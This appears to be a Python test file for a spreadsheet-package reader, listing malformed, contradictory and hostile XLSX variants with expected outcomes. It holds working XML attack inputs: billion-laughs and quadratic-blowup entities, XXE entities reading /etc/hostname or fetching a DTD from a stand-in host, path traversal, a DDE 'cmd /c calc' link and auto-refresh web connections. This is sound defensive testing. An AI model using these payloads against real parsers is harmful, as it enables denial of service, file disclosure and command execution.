"""What can be wrong inside the parts: XML that attacks, contradicts itself, or says a thing in two places."""

import re

from tests.hostile.base import (
    ACCEPTED,
    ANY,
    CUSTOM,
    DISABLED,
    DOUBTED,
    HELD,
    MAIN,
    REFUSED,
    ROOT_LINKS,
    SHEET,
    STRINGS,
    STYLES,
    TAKEN_OR_HELD,
    TAKEN_OR_NOT,
    UNREADABLE,
    UNRECOGNISED,
    WORDS_ONLY,
    WORKBOOK,
    WORKBOOK_LINKS,
    Make,
    Variant,
    adding,
    all_of,
    at,
    cell,
    editing,
    in_sheet,
    linking,
    pack,
    parts,
    recoding,
    restyled,
    row_of,
    shared,
    sound,
    sub,
    swap,
    typed,
    unpack,
    without_part,
)

GOOD = sound(DISABLED)
FIGURE, ROW = at("8-1"), row_of("8-1")
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
OTHER_ROW = f'<row r="{ROW}"><c r="{FIGURE}"><v>111</v></c></row>'
BILLION = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "9"}">' for n in range(10))


def after_head(text: str) -> Make:
    return in_sheet(swap("\n<worksheet", f"\n{text}<worksheet"))


def headed(part: str, root: str, text: str) -> Make:
    return editing(part, swap(f"<{root}", f"{text}<{root}", 1))


def recoded(part: str, encoding: str, declared: str | None = None, before: str = "") -> Make:
    """A part in another encoding, declared rightly or not."""

    def change(content: bytes) -> bytes:
        text = content.decode().replace('encoding="UTF-8"', f'encoding="{declared or encoding}"').replace("?>\n", "?>\n" + before, 1)
        return text.encode(encoding, errors="xmlcharrefreplace")

    return recoding(part, change)


def figure(inner: str, attributes: str = "") -> Make:
    return in_sheet(cell(FIGURE, inner, attributes))


def reference(address: str) -> Make:
    """The figure's cell under another address."""
    return in_sheet(swap(f'<c r="{FIGURE}"', f'<c r="{address}"'))


COMPATIBILITY = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def prefixed_body(sheet: str, prefix: str) -> str:
    return re.sub(r"<(/?)(?![?!])([A-Za-z]+)(?=[\s/>])", rf"<\1{prefix}:\2", sheet)


def two_bodies(sheet: str) -> str:
    """The true sheet under a prefix; beside its rows false ones, in a namespace that may be ignored."""
    false = cell(FIGURE, "<v>111</v>")(sheet).partition("<sheetData>")[2].partition("</sheetData>")[0]
    true = prefixed_body(sheet, "x").replace(f' xmlns="{MAIN}"', f' xmlns:x="{MAIN}" xmlns="urn:y" xmlns:y="urn:y" xmlns:mc="{COMPATIBILITY}" mc:Ignorable="y"')
    return true.replace("<x:sheetData>", f"<sheetData>{false}</sheetData><x:sheetData>")


def body_in_extension(sheet: str) -> str:
    """The true rows under a prefix; false ones, plainly written, inside an extension."""
    head, body, rest = re.match("(.*)(<sheetData>.*</sheetData>)(.*)", sheet, re.S).groups()  # type: ignore[union-attr]
    false = re.search("<sheetData>.*</sheetData>", cell(FIGURE, "<v>111</v>")(sheet), re.S)
    assert false is not None
    whole = head.replace(f'xmlns="{MAIN}"', f'xmlns="{MAIN}" xmlns:x="{MAIN}"') + prefixed_body(body, "x") + rest
    return whole.replace("</worksheet>", f'<extLst><ext uri="{{X}}">{false[0]}</ext></extLst></worksheet>')


def body_in_alternative(sheet: str) -> str:
    sheet = sheet.replace("<sheetData>", f'<mc:AlternateContent xmlns:mc="{COMPATIBILITY}"><mc:Choice xmlns:zz="urn:zz" Requires="zz"><sheetData>')
    return sheet.replace("</sheetData>", "</sheetData></mc:Choice></mc:AlternateContent>")


def two_strings(filled: bytes) -> bytes:
    found = unpack(shared(FIGURE, "<t>106</t>")(filled))
    other = found[STRINGS].replace(b"<t>106</t>", b"<t>111</t>")
    links = re.sub(r'(<Relationship Id=")(rId5)(".*?)sharedStrings.xml("/>)', r"\1\2\3sharedStrings.xml\4\1rId55\3strings2.xml\4", found[WORKBOOK_LINKS].decode())
    return pack(found | {"xl/strings2.xml": other, WORKBOOK_LINKS: links.encode()})


def two_styles(filled: bytes) -> bytes:
    found = unpack(filled)
    other = found[STYLES].replace(b'formatCode="0%"', b'formatCode="0"')
    links = re.sub(r'(<Relationship Id=")(rId4)(".*?)styles.xml("/>)', r"\1\2\3styles.xml\4\1rId44\3styles2.xml\4", found[WORKBOOK_LINKS].decode())
    return pack(found | {"xl/styles2.xml": other, WORKBOOK_LINKS: links.encode()})


def two_workbooks(filled: bytes) -> bytes:
    """Two main parts, each with a form of its own."""
    found = unpack(filled)
    links = found[WORKBOOK_LINKS].decode()
    root = re.sub(r'(<Relationship Id=")(rId1)(".*?)workbook.xml("/>)', r"\1rId11\3book2.xml\4\1\2\3workbook.xml\4", found[ROOT_LINKS].decode())
    return pack(found | {
        "xl/book2.xml": found[WORKBOOK], "xl/_rels/book2.xml.rels": links.replace("sheet1.xml", "sheet7.xml").encode(), ROOT_LINKS: root.encode(),
        "xl/worksheets/sheet7.xml": cell(FIGURE, "<v>111</v>")(found[SHEET].decode()).encode(),
    })


def unrecognised(name: str, reason: str, make: Make) -> Variant:
    return Variant(name, reason, make, UNRECOGNISED)


def doubted(name: str, reason: str, make: Make) -> Variant:
    return Variant(name, reason, make, DOUBTED)


def open_(name: str, reason: str, make: Make, outcome: frozenset[str] = TAKEN_OR_NOT) -> Variant:
    return Variant(name, reason, make, outcome, GOOD)


ATTACKS = [
    unrecognised("a DOCTYPE in the sheet", "DOCTYPE", after_head("<!DOCTYPE worksheet>")),
    unrecognised("a DOCTYPE in the workbook", "DOCTYPE", headed(WORKBOOK, "workbook", "<!DOCTYPE workbook>")),
    unrecognised("a DOCTYPE in the strings", "DOCTYPE", headed(STRINGS, "sst", "<!DOCTYPE sst>")),
    unrecognised("a DOCTYPE in the styles", "DOCTYPE", headed(STYLES, "styleSheet", "<!DOCTYPE styleSheet>")),
    unrecognised("a DOCTYPE in the properties", "DOCTYPE", headed(CUSTOM, "Properties", "<!DOCTYPE Properties>")),
    unrecognised("a DOCTYPE in the relationships", "DOCTYPE", headed(WORKBOOK_LINKS, "Relationships", "<!DOCTYPE Relationships>")),
    unrecognised("a DOCTYPE in the root relationships", "DOCTYPE", headed(ROOT_LINKS, "Relationships", "<!DOCTYPE Relationships>")),
    unrecognised("a DOCTYPE with blanks and capitals around", "DOCTYPE", after_head("<!DOCTYPE\n\tworksheet [ ]  >")),
    unrecognised("a DOCTYPE in UTF-16", "DOCTYPE, invisible to a search for bytes", recoded(SHEET, "utf-16", before="<!DOCTYPE worksheet>")),
    unrecognised("a billion laughs", "entities that grow", all_of(
        after_head(f"<!DOCTYPE worksheet [{BILLION}]>"), figure("<v>&a9;</v>"),
    )),
    unrecognised("quadratic blowup", "one long entity, often", all_of(
        after_head(f'<!DOCTYPE worksheet [<!ENTITY a "{"9" * 50000}">]>'), figure(f"<v>{'&a;' * 2000}</v>"),
    )),
    unrecognised("an entity that reads a file", "XXE", all_of(
        after_head('<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/hostname">]>'), figure("<is><t>&a;</t></is>", 't="inlineStr"'),
    )),
    unrecognised("an entity that is the figure", "106 behind a DOCTYPE", all_of(
        after_head('<!DOCTYPE worksheet [<!ENTITY a "106">]>'), figure("<v>&a;</v>"),
    )),
    unrecognised("a parameter entity from the net", "XXE", after_head('<!DOCTYPE w [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]>')),
    unrecognised("an entity without a declaration", "not well-formed", figure("<v>&a;</v>")),
    open_("an XInclude", "included by nobody", in_sheet(swap("</sheetData>", '</sheetData><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'))),
    open_("a stylesheet instruction", "followed by nobody", after_head('<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?>')),
    unrecognised("two hundred thousand elements deep", "absurd depth", in_sheet(swap("</sheetData>", "</sheetData><extLst>" + "<ext>" * 200000 + "</ext>" * 200000 + "</extLst>"))),
    unrecognised("a cell twenty thousand elements deep", "absurd depth; LibreOffice shows it blank", figure("<is>" + "<r>" * 20000 + "<t>106</t>" + "</r>" * 20000 + "</is>", 't="inlineStr"')),
    open_("a hundred thousand attributes", "slow to parse", in_sheet(swap("<sheetData>", "<sheetData " + " ".join(f'a{n}="1"' for n in range(100000)) + ">"))),
    open_("half a million merges", "a loop inside a loop never ends", in_sheet(sub(r"<mergeCells.*?>", lambda m: m[0] + "".join(f'<mergeCell ref="T{n}:U{n}"/>' for n in range(100, 300000)))), ANY),
    open_("a validation of the whole sheet, often", "17 billion cells each", in_sheet(swap("</dataValidations>", '<dataValidation type="whole" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation>' * 2000 + "</dataValidations>"))),
    open_("a lying uniqueCount", "four billion strings, it says", editing(STRINGS, sub(r'uniqueCount="\d+"', 'uniqueCount="4294967295"'))),
    open_("a negative count", "-1 strings, it says", editing(STRINGS, sub(r' count="\d+"', ' count="-1"'))),
    open_("a name of a sheet of a million letters", "Excel allows 31", editing(WORKBOOK, swap('name="标识"', f'name="{"标" * 1000000}"'))),
]

BROKEN = [
    unrecognised("a sheet that ends in the middle", "not well-formed", in_sheet(sub(r"<row r=\"9\".*", ""))),
    unrecognised("a tag not closed", "not well-formed", in_sheet(swap("</sheetData>", ""))),
    unrecognised("strings that end in the middle", "not well-formed", editing(STRINGS, lambda t: t[: len(t) // 2])),
    unrecognised("a workbook that ends in the middle", "not well-formed", editing(WORKBOOK, lambda t: t[: len(t) // 2])),
    unrecognised("styles that end in the middle", "not well-formed", editing(STYLES, lambda t: t[: len(t) // 2])),
    open_("properties that end in the middle", "one copy of the identity is unreadable", editing(CUSTOM, lambda t: t[: len(t) // 2])),
    open_("a theme that ends in the middle", "nobody reads it here", editing("xl/theme/theme1.xml", lambda t: t[: len(t) // 2])),
    unrecognised("bytes that are no UTF-8", "not well-formed", recoding(SHEET, lambda c: c.replace(b'<c r="A8"', b'<c r="A8" x="\xff\xfe"'))),
    unrecognised("strings in GBK that are declared UTF-8", "not well-formed", recoding(STRINGS, lambda c: c.decode().encode("gbk", errors="xmlcharrefreplace"))),
    open_("strings in GBK, declared so", "sound XML that few parsers read", recoded(STRINGS, "gbk"), ANY),
    open_("strings declared Latin-1", "by the declaration all is mojibake; the figure is the same", recoding(STRINGS, lambda c: c.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')), ANY),
    doubted("a NUL by reference", "not well-formed", figure("<v>1&#0;06</v>")),
    unrecognised("a control character", "not well-formed", in_sheet(swap("<sheetData>", "<sheetData>\x0b"))),
    unrecognised("something before the declaration", "not well-formed", in_sheet(lambda t: "\n" + t)),
    unrecognised("two roots", "not well-formed", in_sheet(lambda t: t + "<worksheet/>")),
    unrecognised("an attribute twice", "not well-formed", in_sheet(swap(f'<c r="{FIGURE}"', f'<c r="{FIGURE}" r="{FIGURE}"'))),
    open_("the sheet in no namespace", "no other program finds a form in it; the figure is the same", in_sheet(sub(r' xmlns="[^"]*"', "")), ANY),
    open_("the sheet in a made-up namespace", "no other program finds a form in it; the figure is the same", in_sheet(swap(MAIN, "urn:made-up")), ANY),
    Variant("the workbook in a made-up namespace", "no workbook of any format we know", editing(WORKBOOK, swap(MAIN, "urn:made-up")), UNREADABLE),
    open_("the strings in a made-up namespace", "no strings: every anchor is missing", editing(STRINGS, swap(MAIN, "urn:made-up")), ANY),
]

CONTRADICTIONS = [
    doubted("the figure's cell twice", "106 and then 111", in_sheet(sub(rf'(<c r="{FIGURE}".*?</c>)', rf'\1<c r="{FIGURE}"><v>111</v></c>', 1))),
    doubted("the figure's row twice", "106 and then 111", in_sheet(swap("</sheetData>", OTHER_ROW + "</sheetData>"))),
    doubted("the figure's row twice, the false one first", "111 and then 106", in_sheet(swap("<sheetData>", "<sheetData>" + OTHER_ROW))),
    doubted("two bodies of the sheet", "106 in the first, 111 in the second", in_sheet(swap("</sheetData>", f"</sheetData><sheetData>{OTHER_ROW}</sheetData>"))),
    open_("rows of an ignorable namespace beside the true ones", "LibreOffice shows 106 and never sees the 111", in_sheet(two_bodies), ANY),
    open_("rows in an extension beside the true ones", "LibreOffice shows 106 and never sees the 111", in_sheet(body_in_extension), ANY),
    doubted("all rows in an alternative that nobody understands", "LibreOffice shows an empty sheet", in_sheet(body_in_alternative)),
    doubted("two values in the cell", "106 and 111", figure("<v>106</v><v>111</v>")),
    doubted("a value and an inline text", "106 and 111; LibreOffice shows neither", figure("<v>106</v><is><t>111</t></is>", 't="inlineStr"')),
    doubted("a cell that names another row", "row 8 holds a cell of row 9", reference(f"{FIGURE[0]}{ROW + 1}")),
    open_("rows out of order", "the figure's row stands last", in_sheet(sub(rf'(<row r="{ROW}".*?</row>)(.*?)</sheetData>', r"\2\1</sheetData>")), ANY),
    open_("cells out of order", "the figure's cell stands first in its row", in_sheet(sub(rf'(<row r="{ROW}"[^>]*>)(.*?)(<c r="{FIGURE}".*?</c>)', r"\1\3\2", 1)), ANY),
    open_("another row inside the extensions", "a reader that looks for rows everywhere finds 111", in_sheet(swap("</worksheet>", f'<extLst><ext uri="{{X}}">{OTHER_ROW}</ext></extLst></worksheet>'))),
    open_("another row as the fallback", "a reader that looks for rows everywhere finds 111", in_sheet(swap("</sheetData>", f'</sheetData><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback>{OTHER_ROW}</mc:Fallback></mc:AlternateContent>'))),
    open_("a value of another namespace before the value", "111 is nobody's", figure('<x:v xmlns:x="urn:x">111</x:v><v>106</v>'), ANY),
    open_("a value inside the cell's extension", "111 is an extension's", figure("<v>106</v><extLst><ext><v>111</v></ext></extLst>"), ANY),
    open_("a value split by a comment", "10, a comment, 6: it is 106", figure("<v>10<!-- -->6</v>"), ANY),
    open_("a value split by an instruction", "10, an instruction, 6: it is 106", figure("<v>10<?x y?>6</v>"), ANY),
    open_("a value split by an element", "10, an element, 6: never 10", figure("<v>10<b/>6</v>"), ANY),
    open_("a value in CDATA", "it is 106", figure("<v><![CDATA[106]]></v>"), TAKEN_OR_HELD),
    open_("a value half in CDATA", "it is 106", figure("<v>10<![CDATA[6]]></v>"), TAKEN_OR_HELD),
    open_("a value by character references", "it is 106", figure("<v>&#49;&#x30;6</v>"), TAKEN_OR_HELD),
    open_("a value between blanks", "it is 106", figure("<v>\n 106 </v>"), TAKEN_OR_HELD),
    doubted("a string number beyond the last", "no such string", figure("<v>999999</v>", 't="s"')),
    doubted("a negative string number", "the last string, to a careless reader", all_of(shared(FIGURE, "<t>111</t>"), figure("<v>-1</v>", 't="s"'))),
    doubted("a string number in full-width digits", "a number to a careless reader", figure("<v>１２</v>", 't="s"')),
    doubted("a string number with an underscore", "a number to a careless reader", figure("<v>1_2</v>", 't="s"')),
    doubted("a string number that is no integer", "no such string", figure("<v>12.0</v>", 't="s"')),
    doubted("a type that does not exist", "what is it?", figure("<v>106</v>", 't="q"')),
    open_("a style beyond the last", "how it is displayed is unknown", in_sheet(sub(rf'<c r="{FIGURE}" s="\d+"', f'<c r="{FIGURE}" s="9999"')), ANY),
    open_("a negative style", "how it is displayed is unknown", in_sheet(sub(rf'<c r="{FIGURE}" s="\d+"', f'<c r="{FIGURE}" s="-1"')), ANY),
    open_("a style that is a word", "how it is displayed is unknown", in_sheet(sub(rf'<c r="{FIGURE}" s="\d+"', f'<c r="{FIGURE}" s="x"')), ANY),
    open_("a number format that is a word", "how all is displayed is unknown", editing(STYLES, sub(r'<xf numFmtId="165"', '<xf numFmtId="x"')), ANY),
    open_("an address in small letters", "g8", reference(FIGURE.lower()), ANY),
    open_("an address with dollars", "$G$8", reference(f"${FIGURE[0]}${ROW}"), ANY),
    doubted("an address without a number", "G", reference(FIGURE[0])),
    doubted("an address without a letter", "8", reference(str(ROW))),
    doubted("an address of row 0", "G0", reference(f"{FIGURE[0]}0")),
    doubted("an address beyond the last column", "ZZZZ8", reference(f"ZZZZ{ROW}")),
    doubted("an address in full-width letters", "Ｇ８", reference("Ｇ８")),
    open_("a row beyond the last", "row 99,999,999,999", in_sheet(swap("</sheetData>", '<row r="99999999999"/></sheetData>')), ANY),
    open_("a row that is a word", "r=x", in_sheet(swap("</sheetData>", '<row r="x"/></sheetData>')), ANY),
    open_("a row of -1", "r=-1", in_sheet(swap("</sheetData>", '<row r="-1"><c r="A1"><v>1</v></c></row></sheetData>')), ANY),
    Variant("a cell at the last address", "text outside the form is a remark", in_sheet(swap("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')), ACCEPTED, GOOD),
    Variant("a merge of the whole sheet", "a merge swallows every input", in_sheet(sub(r"<mergeCells.*?>", lambda m: m[0] + '<mergeCell ref="A1:XFD1048576"/>')), DOUBTED),
    open_("a merge of nonsense", "no range", in_sheet(sub(r"<mergeCells.*?>", lambda m: m[0] + '<mergeCell ref="quatsch"/>')), ANY),
]

LINKS = [
    Variant("a sheet on the net", "an external target is never fetched", editing(WORKBOOK_LINKS, swap('Target="worksheets/sheet1.xml"', 'Target="http://192.0.2.1/sheet1.xml" TargetMode="External"')), UNREADABLE),
    Variant("a sheet outside the package", "a target that climbs out", editing(WORKBOOK_LINKS, swap("worksheets/sheet1.xml", "../../../../etc/hostname")), UNREADABLE),
    Variant("a sheet that is the workbook itself", "a loop", editing(WORKBOOK_LINKS, swap("worksheets/sheet1.xml", "workbook.xml")), UNREADABLE),
    Variant("a sheet whose relationship is missing", "corrupt", editing(WORKBOOK_LINKS, sub(r'<Relationship Id="rId1".*?/>', "")), UNREADABLE),
    Variant("a sheet of the type of a dialog", "no worksheet", editing(WORKBOOK_LINKS, swap("relationships/worksheet\" Target=\"worksheets/sheet1", "relationships/dialogsheet\" Target=\"worksheets/sheet1")), ANY, GOOD),
    doubted("two parts of strings", "LibreOffice shows 106 of the one; the other says 111", two_strings),
    doubted("two parts of styles", "10600% by the one, as LibreOffice shows it; 106 by the other", all_of(restyled(FIGURE, code="0%"), two_styles)),
    doubted("two workbooks in one package", "LibreOffice shows 106 of the one; the other says 111", two_workbooks),
    doubted("two relationships of one name", "rId1 is the form with 106, as LibreOffice shows it, and one with 111", all_of(
        editing(WORKBOOK_LINKS, sub(r'(<Relationship Id="rId1".*?)(worksheets/sheet1.xml)("/>)', r"\1\2\3\1worksheets/sheet7.xml\3")),
        parts(lambda found: found | {"xl/worksheets/sheet7.xml": cell(FIGURE, "<v>111</v>")(found[SHEET].decode()).encode()}),
    )),
    Variant("two sheets that are one part", "the form is there twice", editing(WORKBOOK, swap("</sheets>", '<sheet name="填报表2" sheetId="9" r:id="rId1"/></sheets>')), UNREADABLE),
    open_("two sheets of one name", "Excel makes no such workbook", editing(WORKBOOK, swap('name="标识"', 'name="填报表"')), ANY),
    open_("an external workbook linked", "linked, and never opened", all_of(
        adding("xl/externalLinks/externalLink1.xml", f'{HEAD}<externalLink xmlns="{MAIN}"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'),
        linking("xl/externalLinks/externalLink1.xml", "externalLinkPath", "file:///\\\\192.0.2.1\\share\\数.xlsx", "rId1", "External"),
        linking(WORKBOOK, "externalLink", "externalLinks/externalLink1.xml", "rId90"),
        typed("xl/externalLinks/externalLink1.xml", "vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        editing(WORKBOOK, swap("<definedNames>", '<externalReferences><externalReference r:id="rId90"/></externalReferences><definedNames>')),
    ), TAKEN_OR_HELD),
    open_("a DDE link", "a command of Windows, never run", all_of(
        adding("xl/externalLinks/externalLink1.xml", f'{HEAD}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
        linking(WORKBOOK, "externalLink", "externalLinks/externalLink1.xml", "rId90"),
        editing(WORKBOOK, swap("<definedNames>", '<externalReferences><externalReference r:id="rId90"/></externalReferences><definedNames>')),
    ), ANY),
    open_("a query of the net", "a connection, never opened", all_of(
        adding("xl/connections.xml", f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://192.0.2.1/"/></connection></connections>'),
        linking(WORKBOOK, "connections", "connections.xml", "rId91"),
    ), ANY),
    open_("an embedded program", "an OLE object, never opened", adding("xl/embeddings/oleObject1.bin", b"MZ" + bytes(500)), ANY),
    open_("a relationship to a missing part", "a picture that was stripped by a gateway", linking(SHEET, "image", "../media/image9.png", "rId77"), ANY),
    Variant("strings found under another name", "named by its relationship, as the standard says", all_of(
        parts(lambda found: {("xl/texts.xml" if n == STRINGS else n): c for n, c in found.items()}),
        editing(WORKBOOK_LINKS, swap("sharedStrings.xml", "texts.xml")),
        editing("[Content_Types].xml", swap("/xl/sharedStrings.xml", "/xl/texts.xml")),
    ), ACCEPTED, GOOD, honest=True),
    open_("a false copy of the strings at the usual place", "the relationship names the true ones", all_of(
        parts(lambda found: {("xl/texts.xml" if n == STRINGS else n): c for n, c in found.items()}),
        editing(WORKBOOK_LINKS, swap("sharedStrings.xml", "texts.xml")),
        editing("[Content_Types].xml", swap("/xl/sharedStrings.xml", "/xl/texts.xml")),
        adding(STRINGS, f'{HEAD}<sst xmlns="{MAIN}"><si><t>x</t></si></sst>'),
    )),
    open_("custom properties missing, their relationship left", "one copy of the identity is missing", without_part(CUSTOM), frozenset({ACCEPTED, UNRECOGNISED})),
]

LEXEMES = [
    Variant("a number with an exponent", "an XML double: 1.06E2 is 106", figure("<v>1.06E2</v>"), ACCEPTED, GOOD),
    Variant("a number with a zero decimal", "106.0 is 106", figure("<v>106.0</v>"), ACCEPTED, GOOD),
    Variant("a number one double above", "the first 15 digits are what a person sees", figure("<v>106.00000000000001</v>"), ACCEPTED, GOOD, honest=True),
    Variant("a number one double below", "the first 15 digits are what a person sees", figure("<v>105.99999999999999</v>"), ACCEPTED, GOOD, honest=True),
    open_("a number with a plus", "an XML double: +106", figure("<v>+106</v>"), TAKEN_OR_HELD),
    open_("a number with a leading zero", "an XML double: 0106", figure("<v>0106</v>"), TAKEN_OR_HELD),
    open_("a number with nothing after the point", "an XML double: 106.", figure("<v>106.</v>"), TAKEN_OR_HELD),
    *(
        doubted(f"a numeric cell that holds {shown}", f"{shown} is no XML double", figure(f"<v>{lexeme}</v>"))
        for shown, lexeme in (
            ("NaN", "NaN"), ("INF", "INF"), ("minus INF", "-INF"), ("infinity", "Infinity"), ("a hexadecimal", "0x6A"), ("an underscore", "1_06"),
            ("full-width digits", "１０６"), ("Arabic digits", "١٠٦"), ("a comma", "1,06"), ("a blank inside", "1 06"), ("a word", "约106"),
            ("an overflow", "1e400"), ("1e15", "1e15"), ("forty digits", "1" * 40), ("a percent sign", "106%"), ("two points", "1.0.6"),
            ("True", "True"), ("a sum", "100+6"), ("a float suffix", "106f"), ("a complex number", "106j"), ("an exponent of Fortran", "1.06d2"),
        )
    ),
    doubted("a numeric cell with an escape", "_x0031_ is no digit outside of texts; LibreOffice shows 0", figure("<v>_x0031_06</v>")),
    Variant("a formula with an escape", "_x0039_6 is a name in a formula, not 96", figure("<f>_x0039_6+10</f><v>106</v>"), HELD),
    open_("a text with an escape", "_x0031_ is 1 in a text, and Excel shows it so", shared(FIGURE, "<t>_x0031_06</t>"), TAKEN_OR_HELD),
    open_("a text beside runs", "10 and then a run with 6: never 10 alone", shared(FIGURE, "<t>10</t><r><t>6</t></r>"), ANY),
    open_("two texts in one string", "10 and 6: never 10 alone", shared(FIGURE, "<t>10</t><t>6</t>"), ANY),
    Variant("a number that is almost nothing", "1e-320: more decimals than declared", figure("<v>1e-320</v>"), HELD),
    Variant("a numeric cell that holds nothing", "blank: not reported", figure("<v></v>"), frozenset({WORDS_ONLY, HELD, REFUSED})),
]

VARIANTS = ATTACKS + BROKEN + CONTRADICTIONS + LINKS + LEXEMES
